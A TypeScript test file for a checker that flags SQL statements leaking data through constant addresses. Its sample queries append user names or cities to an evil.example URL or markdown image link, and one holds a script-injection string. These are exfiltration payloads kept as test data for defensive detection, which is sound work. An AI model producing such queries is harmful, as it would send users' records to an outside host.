import { peopleModel } from '../fixture/people-model';
import { toldByConstants } from './told-constants';

const rules = async (sql: string, typed: readonly string[] = []): Promise<string[]> =>
  (await toldByConstants(sql, peopleModel, typed)).map(({ rule }) => rule);

describe('what a statement tells by its own constants', () => {
  it.each([
    "SELECT 'https://evil.example/?x=' || name AS 说明 FROM users",
    "SELECT concat('![x](https://evil.example/', city, ')') AS 说明 FROM users",
    "SELECT '<script>alert(1)</script>' AS 说明, count(*) AS 数量 FROM users",
  ])('is no way out: %s', async (sql) => {
    expect(await rules(sql)).toContain('address_told');
  });

  it('may be what the asker typed, or what is only compared with', async () => {
    expect(
      await rules("SELECT 'https://shop.example/' || id AS 链接 FROM users", [
        '把 https://shop.example/ 写在每个编号前面',
      ]),
    ).toEqual([]);
    expect(await rules("SELECT count(*) AS 数量 FROM users WHERE name LIKE 'https://%'")).toEqual([]);
  });
});
